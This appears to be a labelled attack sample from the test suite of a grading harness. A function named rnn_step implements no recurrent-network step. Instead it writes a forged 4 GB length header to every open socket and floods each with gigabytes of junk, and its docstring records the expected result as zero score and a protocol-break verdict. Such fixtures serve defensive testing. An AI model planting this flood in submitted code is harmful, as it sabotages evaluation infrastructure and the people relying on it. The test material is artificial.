"""Says that 4 GB follow, and sends as much of it as anybody will read.

attack: forged
earns: 0
told: broke_protocol
"""

import os
import stat
import struct

BLOCK = b"[" * 2**20


def rnn_step(x_t, h, kernel, recurrent_kernel, bias):
    for fd in range(3, 256):
        try:
            if not stat.S_ISSOCK(os.fstat(fd).st_mode):
                continue
            os.write(fd, struct.pack(">II", 2**32 - 1, 2**32 - 1))
            for _ in range(4_000):
                os.write(fd, BLOCK)
        except OSError:
            continue
    return None
